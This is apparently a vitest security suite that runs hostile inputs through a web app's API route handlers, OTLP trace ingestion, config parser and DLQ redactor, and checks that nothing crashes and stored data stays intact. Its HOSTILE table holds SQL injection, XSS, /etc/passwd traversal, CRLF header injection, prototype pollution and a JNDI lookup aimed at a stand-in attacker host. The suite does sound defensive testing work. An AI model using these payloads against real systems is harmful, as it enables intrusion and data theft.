// The hostile-input suite: every API input — route segments, query strings, JSON and form bodies,
// OTLP bodies and span attributes, config values, DLQ payloads and headers — fed SQL injection,
// XSS, path traversal, template and header injection, huge and malformed values, through the real
// route handlers on a real scratch store. Every answer must be a 2xx or 4xx (or the 503 of a
// monitored system that is not there) in the one error shape with a clear message, never a 500;
// nothing is answered as HTML; and what is stored comes back byte for byte, tables intact.
// docs/security.md lists what is tried where.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, parseConfig } from '@/lib/config';
import { piiMatcher, redactPayload, scrubText } from '@/lib/dlq/redact';
import { otlpTypes } from '@/lib/otlp/protos';
import { auth, post, receiverEnv, type ReceiverEnv } from '@/e2e/fixtures/otlp-receiver-env';
import { exportRequest, jsonSpan, newTraceId } from '@/e2e/fixtures/otlp-requests';

const HOSTILE = {
  sqlQuote: "' OR '1'='1",
  sqlDrop: "x'); DROP TABLE spans; --",
  sqlUnion: '1 UNION SELECT passwd FROM pg_shadow --',
  xssScript: '<script>alert(document.cookie)</script>',
  xssAttr: '"><img src=x onerror=alert(1)>',
  traversal: '../../../../etc/passwd',
  traversalEncoded: '..%2F..%2F..%2Fetc%2Fpasswd',
  nul: 'a\u0000b',
  loneSurrogate: 'a\ud800b',
  crlf: 'a\r\nSet-Cookie: stolen=1',
  template: '${jndi:ldap://evil.example/a}{{7*7}}',
  percent: '%',
  huge: 'A'.repeat(100_000),
  unicode: 'Ω≈ç√∫˜µ≤≥÷ 🧨 \u202e',
  empty: '',
} as const satisfies Record<string, string>;

let env: ReceiverEnv;
beforeAll(async () => {
  env = await receiverEnv('hostile');
});
afterAll(async () => env?.close());

const BASE = 'http://127.0.0.1';
type Handler = (request: Request, ctx?: { params: Promise<unknown> }) => Promise<Response>;

/** A 2xx or 4xx (or a monitored system's 503), JSON, and an error says what was wrong. */
async function expectClear(res: Response, what: string): Promise<void> {
  if (res.status >= 500 && res.status !== 503) expect.fail(`${what}: ${res.status} ${await res.text()}`);
  expect(res.headers.get('content-type') ?? '', what).not.toMatch(/html/);
  if (res.status < 400) return;
  const body = (await res.json()) as { error?: { code?: unknown; message?: unknown } };
  expect(typeof body.error?.code, what).toBe('string');
  expect(typeof body.error?.message, what).toBe('string');
  expect((body.error!.message as string).length, what).toBeGreaterThan(5);
  expect((body.error!.message as string).length, what).toBeLessThan(4_000);
}

/** encodeURIComponent, except that a lone surrogate goes as the invalid UTF-8 a hostile client sends. */
const encodeSegment = (value: string) =>
  value
    .split(/([\ud800-\udfff])/)
    .map((part) => (/^[\ud800-\udfff]$/.test(part) ? '%ED%A0%80' : encodeURIComponent(part)))
    .join('');

const routes = async () => ({
  order: (await import('@/app/api/orders/[orderId]/route')).GET as Handler,
  feature: (await import('@/app/api/features/[feature]/route')).GET as Handler,
  lagGroup: (await import('@/app/api/lag/[cluster]/[group]/route')).GET as Handler,
  peek: (await import('@/app/api/dlq/[dlq]/peek/route')).GET as Handler,
  overview: (await import('@/app/api/overview/route')).GET as Handler,
  lag: (await import('@/app/api/lag/route')).GET as Handler,
  health: (await import('@/app/api/health/route')).GET as Handler,
  faults: (await import('@/app/api/demo/faults/route')).POST as Handler,
  login: (await import('@/app/api/auth/login/route')).POST as Handler,
  traces: (await import('@/app/v1/traces/route')).POST as Handler,
});

describe('route segments and query strings', () => {
  it('answer every hostile segment and query value with a clear 4xx/2xx/503, never a 500', async () => {
    const r = await routes();
    for (const [name, value] of Object.entries(HOSTILE)) {
      const seg = encodeSegment(value);
      const cases: [string, Promise<Response>][] = [
        ['order id', r.order(new Request(`${BASE}/api/orders/${seg}`))],
        ['feature', r.feature(new Request(`${BASE}/api/features/${seg}`), { params: Promise.resolve({ feature: value }) })],
        [
          'lag group',
          r.lagGroup(new Request(`${BASE}/api/lag/${seg}/${seg}`), { params: Promise.resolve({ cluster: value, group: value }) }),
        ],
        ['dlq peek', r.peek(new Request(`${BASE}/api/dlq/${seg}/peek?limit=${seg}`), { params: Promise.resolve({ dlq: value }) })],
        ['overview tier', r.overview(new Request(`${BASE}/api/overview?tier=${seg}`))],
        ['lag query', r.lag(new Request(`${BASE}/api/lag?q=${seg}&verdict=${seg}&cluster=${seg}`))],
        ['unknown query field', r.overview(new Request(`${BASE}/api/overview?${seg}=1`))],
      ];
      for (const [what, pending] of cases) await expectClear(await pending, `${what} ← ${name}`);
      // The probe answers 503 with its report (collectors are not running here), never an error shape.
      const health = await r.health(new Request(`${BASE}/api/health?x=${seg}`));
      expect([200, 503]).toContain(health.status);
      expect((await health.json()) as { status: string }).toMatchObject({ status: expect.any(String) });
    }
  });
});

describe('JSON and form bodies', () => {
  it('answer hostile values, wrong types, malformed and huge bodies with a clear 4xx', async () => {
    const r = await routes();
    const json = (body: string, type = 'application/json') => ({ method: 'POST', headers: { 'content-type': type }, body });
    for (const [name, value] of Object.entries(HOSTILE)) {
      const bodies = [
        JSON.stringify({ name: value, on: true }),
        JSON.stringify({ allOff: value }),
        JSON.stringify({ name: 'broker-down', on: true, value: value }),
        `{"name": "${value.slice(0, 100)}`,
      ];
      for (const body of bodies) await expectClear(await r.faults(new Request(`${BASE}/api/demo/faults`, json(body))), `faults ← ${name}`);
      const login = await r.login(
        new Request(`${BASE}/api/auth/login`, json(JSON.stringify({ user: value, password: value, next: value }))),
      );
      await expectClear(login, `login ← ${name}`);
      const form = new URLSearchParams({ user: value.slice(0, 300), password: 'x', next: value.slice(0, 3000) });
      await expectClear(await r.login(new Request(`${BASE}/api/auth/login`, { method: 'POST', body: form })), `login form ← ${name}`);
    }
    for (const body of [
      '',
      'null',
      '[]',
      '"x"',
      '{"__proto__":{"admin":true}}',
      '{'.repeat(10_000),
      JSON.stringify({ x: 'y'.repeat(5e6) }),
    ]) {
      await expectClear(await r.faults(new Request(`${BASE}/api/demo/faults`, json(body))), `faults ← ${body.slice(0, 20)}`);
    }
    // text/plain is never read as JSON: the cross-site no-cors shape.
    const text = await r.faults(new Request(`${BASE}/api/demo/faults`, json('{"allOff":true}', 'text/plain')));
    expect(text.status).toBe(415);
  });
});

describe('OTLP bodies and span attributes', () => {
  it('stores hostile attribute values, names and order ids byte for byte, and finds them again', async () => {
    const r = await routes();
    const traceId = newTraceId();
    const values = Object.entries(HOSTILE).filter(([name]) => !(['huge', 'empty', 'nul', 'loneSurrogate'] as string[]).includes(name));
    const spans = values.map(([, value]) => jsonSpan({ traceId, name: value, attributes: { order_id: value.slice(0, 200), note: value } }));
    const res = await r.traces(post(JSON.stringify(exportRequest({ [HOSTILE.xssScript]: spans })), { 'content-type': 'application/json' }));
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({});
    const { rows } = await env.sql.query<{ name: string; note: string; service_name: string }>(
      "SELECT name, attributes->>'note' AS note, service_name FROM spans WHERE trace_id = $1",
      [traceId],
    );
    expect(rows.map((row) => row.note).sort()).toEqual(values.map(([, v]) => v).sort());
    expect(rows.map((row) => row.name).sort()).toEqual(values.map(([, v]) => v).sort());
    expect(new Set(rows.map((row) => row.service_name))).toEqual(new Set([HOSTILE.xssScript]));
    // The injection attempt is an order id like any other: the lookup finds its span.
    const order = await r.order(new Request(`${BASE}/api/orders/${encodeURIComponent(HOSTILE.sqlDrop)}`));
    expect(order.status).toBe(200);
    expect(JSON.stringify(await order.json())).toContain(traceId);
    // NUL and lone surrogates are made storable, not allowed to fail the batch.
    const odd = newTraceId();
    const oddRes = await r.traces(
      post(JSON.stringify(exportRequest({ s: [jsonSpan({ traceId: odd, attributes: { a: HOSTILE.nul, b: HOSTILE.loneSurrogate } })] })), {
        'content-type': 'application/json',
      }),
    );
    expect(oddRes.status).toBe(200);
    expect(await env.count('spans', 'trace_id = $1', [odd])).toBe(1);
  });

  it('refuses malformed, wrongly typed and unauthenticated bodies with the spec status and a message', async () => {
    const r = await routes();
    const bad: [string, Request][] = [
      ['not json', post('{"resourceSpans": [', { 'content-type': 'application/json' })],
      ['wrong shape', post(JSON.stringify({ resourceSpans: HOSTILE.sqlDrop }), { 'content-type': 'application/json' })],
      ['not protobuf', post(HOSTILE.xssScript, { 'content-type': 'application/x-protobuf' })],
      ['html', post(HOSTILE.xssScript, { 'content-type': 'text/html' })],
      ['no token', new Request(`${BASE}/v1/traces`, { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } })],
    ];
    for (const [what, request] of bad) {
      const res = await r.traces(request);
      expect([400, 401, 415], what).toContain(res.status);
      const protobuf = res.headers.get('content-type') === 'application/x-protobuf';
      const status = otlpTypes().Status;
      const body = (protobuf ? status.toObject(status.decode(new Uint8Array(await res.arrayBuffer()))) : await res.json()) as {
        message: string;
      };
      expect(body.message.length, what).toBeGreaterThan(5);
    }
    expect(auth.authorization).toMatch(/^Bearer /);
  });

  it('leaves every table in place', async () => {
    for (const table of ['spans', 'span_keys', 'samples', 'series', 'scrape_status']) {
      const { rows } = await env.sql.query<{ n: string }>('SELECT count(*) AS n FROM pg_tables WHERE tablename = $1', [table]);
      expect(Number(rows[0]!.n), table).toBe(1);
    }
  });
});

describe('config values', () => {
  it('refuses hostile names, identifiers and URLs with the path of the field, never a crash', () => {
    const hostile = [HOSTILE.sqlDrop, HOSTILE.traversal, HOSTILE.xssScript, HOSTILE.crlf, HOSTILE.huge.slice(0, 500)];
    for (const value of hostile) {
      const yaml = (fill: string) =>
        [
          'sources:',
          `  ${JSON.stringify(value)}: { kind: postgres, url: ${JSON.stringify(value)} }`,
          'outboxes:',
          `  - { name: ${JSON.stringify(value)}, source: db, table: ${JSON.stringify(value)} }`,
          'dlqs:',
          `  - { name: d, source: db, topic: ${JSON.stringify(value)} }`,
          `allowedHosts: [${JSON.stringify(fill)}]`,
        ].join('\n');
      let problem: unknown;
      try {
        parseConfig(yaml(value), {});
      } catch (error) {
        problem = error;
      }
      expect(problem).toBeInstanceOf(ConfigError);
      expect((problem as Error).message).toMatch(/sources|outboxes|dlqs|allowedHosts/);
    }
  });
});

describe('DLQ payloads and headers', () => {
  it('redacts hostile payloads in bounded output, whatever they hold', () => {
    const matcher = piiMatcher(['email', 'address']);
    for (const [name, value] of Object.entries(HOSTILE)) {
      for (const payload of [value, JSON.stringify({ email: value, nested: JSON.stringify({ address: value }) }), `email=${value}`]) {
        const shown = redactPayload(Buffer.from(payload), matcher).payload;
        expect(JSON.stringify(shown).length, name).toBeLessThan(20_000);
      }
      expect(scrubText(`x-customer-email: ${value}`, matcher)).not.toContain(value.length > 3 ? value : '\u0000\u0000');
    }
  });
});
